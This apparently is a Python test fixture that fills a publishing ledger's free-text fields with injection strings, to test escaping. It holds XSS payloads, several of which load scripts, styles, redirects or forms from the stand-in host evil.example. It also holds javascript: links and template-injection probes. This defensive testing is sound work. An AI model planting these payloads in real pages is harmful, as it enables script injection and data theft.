"""Texts that try to be more than texts, and ledgers in which every free text is one of them."""

import copy
import re
from typing import Any

from tests.publish.canary import AS_OF, grow, leaves
from tests.publish.small import approve, ledger_of

from inspection.model.ledger import Ledger

Plain = dict[str, Any]

ACTS = "document.title='acted'"
"""What a script among these would do."""

SCRIPTS = (
    f"<script>{ACTS}</script>",
    f"</title><script>{ACTS}</script>",
    "</title><script src=//evil.example/x.js></script>",
    "</script><script src='https://evil.example/x.js'></script>",
    f"<img src=x onerror={ACTS}>",
    f"<svg/onload={ACTS}>",
    f"<svg><a xlink:href=javascript:{ACTS}><text>x</text></a></svg>",
    f"<details open ontoggle={ACTS}>",
    f"<input autofocus onfocus={ACTS}>",
    f"\" onmouseover=\"{ACTS}\" x=\"",
    f"' autofocus onfocus='{ACTS}' x='",
    f"<iframe srcdoc='<script>{ACTS}</script>'></iframe>",
    "<style>*{background:url(//evil.example/p)}</style>",
    "<link rel=stylesheet href=//evil.example/s.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>x</button></form>",
    "<!-- 注释 --> <![CDATA[x]]> <?php x ?> <!doctype x>",
    "-->]]>*/</style></textarea></template>",
    "<div markdown=1>**粗**</div>",
)  # fmt: skip
ENTITIES = (
    "&lt;b&gt; &amp; &#60;i&#62; &#x3c;u&#x3e;",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;s&amp;gt; &nbsp;&NewLine;",
    "%3Cscript%3E \\u003cscript\\u003e",
)
LINKS = (
    "[链接](javascript:alert(1))",
    "[链接](JaVaScRiPt&#58;alert(1))",
    "[链接](data:text/html;base64,PHNjcmlwdD4=)",
    "![图](https://evil.example/p.png)",
    "[名][引用] [脚注][^1]",
    "[引用]: https://evil.example",
    "[引用]: javascript:alert(1)",
    "<https://evil.example> <a@evil.example> <javascript:alert(1)>",
    "https://evil.example www.evil.example //evil.example a@evil.example",
)
MARKDOWN = (
    "| 一 | 二 |",
    "a | b | c",
    "\\| \\* 反斜杠 \\",
    "*强调* **加粗** _下划_ __双下划__ ~~删~~ ^上^ ==亮==",
    "`代码` ``双``",
    "# 标题",
    "标题\n====",
    "标题\n----",
    "- 项\n- 项",
    "1. 项",
    "12) 项",
    "+ 项",
    "> 引用",
    "    缩进四格",
    "\t制表",
    "```python\nx\n```",
    "~~~\nx\n~~~",
    "---",
    "***",
    "!!! note \"题\"\n    文",
    "??? tip",
    "=== \"页签\"",
    ":smile: :fontawesome-brands-x:",
    "词\n:   释义",
    "*[缩写]: 全称",
    "[^1]: 脚注",
    "{: .class onclick=alert(1)} {#id} { .a }",
    "$$x$$ \\(x\\)",
    "--8<-- \"mkdocs.yml\"",
    "\"双引\" '单引'",
    "第一段\n\n第二段",
    "3. 2024.5-6 50% a-b 一-二",
)  # fmt: skip
TEMPLATES = (
    "{{ config.site_name }} {% raw %} {# x #}",
    "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %> {{{x}}}",
    "{% include 'mkdocs.yml' %}{{ ''.__class__ }}",
    "{} {0} {unit} {n!r} %s %(n)s $n",
    "---\ntitle: x\ntemplate: evil.html\n---",
    "!ENV HOME",
)
UNSEEN = (
    "a\u2028b\u2029c\u0085d",
    "\u202e倒写\u202c \u2066隔\u2069 \u200b零宽\u200d\ufeff",
    "左\u061c右\u200e\u200f\u00ad\u2060\U000e0041",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03",
    "\x00\x07\x1b[31m\x7f\x9b",
)
INJECTIONS = (*SCRIPTS, *ENTITIES, *LINKS, *MARKDOWN, *TEMPLATES, *UNSEEN)

HARMLESS = "无害"
_FREE = re.compile(r"暗.+语")


def filled(texts: tuple[str, ...], start: int = 0) -> Ledger:
    """Return a ledger of every kind in which every free text of every field is one of these, in turn.

    The fields are those of the schemas, so a new one is among them; the ledger is taken past the schemas, which refuse
    some of the texts, and its gates are open.
    """
    records = grow()
    places = [(leaf.path, leaf.pointer) for leaf in leaves(records) if _FREE.fullmatch(str(leaf.value))]
    for number, (path, pointer) in enumerate(places, start=start):
        _put(records[path], pointer, texts[number % len(texts)])
    return ledger_of(approve(copy.deepcopy(records), AS_OF))


def _put(record: Plain, pointer: str, text: str) -> None:
    holder: Any = record
    *parts, last = pointer.split("/")[1:]
    for part in parts:
        holder = holder[int(part) if isinstance(holder, list) else part]
    holder[int(last) if isinstance(holder, list) else last] = text
